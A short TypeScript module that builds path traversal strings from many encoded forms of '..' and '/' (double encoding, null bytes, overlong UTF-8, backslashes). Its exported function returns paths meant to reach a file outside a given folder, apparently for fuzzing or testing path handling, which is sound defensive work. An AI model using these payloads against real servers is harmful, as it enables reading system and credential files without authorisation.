/** Ways to write "up" and "slash" that some program between browser and disk has accepted. */
const ups = [
  "..",
  "%2e%2e",
  ".%2e",
  "%2E.",
  "%252e%252e",
  "..%00",
  "..;",
  ". .",
  "....",
  "..%c0%af",
  "%c0%ae%c0%ae",
  "%e0%80%ae%e0%80%ae",
  "%uff0e%uff0e",
];
const slashes = ["/", "%2f", "%5c", "\\", "%252f", "//", "/./"];

/** Paths below a folder that try to reach a file outside of it. */
export function climbingPaths(folder: string, file: string): readonly string[] {
  const climbs = ups.flatMap((up) => slashes.map((slash) => `${(up + slash).repeat(6)}`));
  return [
    ...climbs.map((climb) => `${folder}${climb}${file}`),
    `${folder}/${file}`,
    `${folder}%00/../${file}`,
    `${folder}x/../../../${file}`,
    `${folder}file:///${file}`,
    `${folder}%2f%2f${file}`,
  ];
}
